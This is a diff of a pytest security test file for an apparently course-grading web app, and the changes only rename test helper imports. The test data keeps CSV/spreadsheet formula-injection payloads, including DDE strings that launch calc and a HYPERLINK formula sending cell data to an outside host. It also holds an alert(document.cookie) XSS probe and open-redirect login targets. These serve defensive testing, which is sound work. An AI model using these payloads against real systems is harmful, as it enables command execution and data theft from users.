@@ -13,7 +13,9 @@ import pytest
 from werkzeug.http import parse_options_header
 
 from faults import exports as fx
-from tests.service.helpers import csrf_of, make_worker, replay_runner, solution_files, upload_data
+from support.app import make_worker, page_csrf, replay_runner
+from support.service import lab_files
+from tests.service.helpers import upload_data
 from tests.service.servers import serving, serving_pages
 
 ISSUE_NAMES = ['=HYPERLINK("http://x/?"&A3,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
@@ -22,7 +24,7 @@ ISSUE_NAMES = ['=HYPERLINK("http://x/?"&A3,"click")', "+cmd|' /C calc'!A0", "-2+
 @pytest.fixture
 def graded(app, browser):
     """alice has a graded submission; returns its id."""
-    r = browser("alice").post(f"/assignments/{app.ids['assignment']}/submit", data=upload_data(solution_files()),
+    r = browser("alice").post(f"/assignments/{app.ids['assignment']}/submit", data=upload_data(lab_files()),
                               content_type="multipart/form-data")
     make_worker(app, replay_runner()).drain(timeout=30)
     return int(r.headers["Location"].rsplit("/", 1)[1])
@@ -92,7 +94,7 @@ def test_every_route_sends_the_security_headers(app, browser, graded):
 
 
 def test_student_files_are_sandboxed_plain_text_even_when_they_hold_html(app, browser, graded):
-    files = dict(solution_files())
+    files = dict(lab_files())
     files["sender.c"] += b"/* <html><script>alert(document.cookie)</script> */\n"
     alice = browser("alice")
     r = alice.post(f"/assignments/{app.ids['assignment']}/submit", data=upload_data(files),
@@ -112,7 +114,7 @@ def session_cookie_after_login(app, base_url: str, **headers) -> str:
     c = app.test_client()
     page = c.get("/login", base_url=base_url)
     r = c.post("/login", base_url=base_url, headers=headers,
-               data={"username": "alice", "password": "alice-pass-1", "csrf_token": csrf_of(page.get_data(True))})
+               data={"username": "alice", "password": "alice-pass-1", "csrf_token": page_csrf(page.get_data(True))})
     assert r.status_code == 302, r.get_data(True)[:300]
     cookies = r.headers.get_all("Set-Cookie")
     assert all("Max-Age=0" in c for c in cookies if c.startswith("remember_token="))
@@ -134,7 +136,7 @@ def test_hostile_next_logs_in_and_stays_on_site(app, target):
     url = "/login?next=" + quote(target, safe="/:")
     page = c.get(url)
     assert page.status_code == 200
-    r = c.post(url, data={"username": "alice", "password": "alice-pass-1", "csrf_token": csrf_of(page.get_data(True))})
+    r = c.post(url, data={"username": "alice", "password": "alice-pass-1", "csrf_token": page_csrf(page.get_data(True))})
     assert r.status_code == 302 and r.headers["Location"] == "/"
 
 
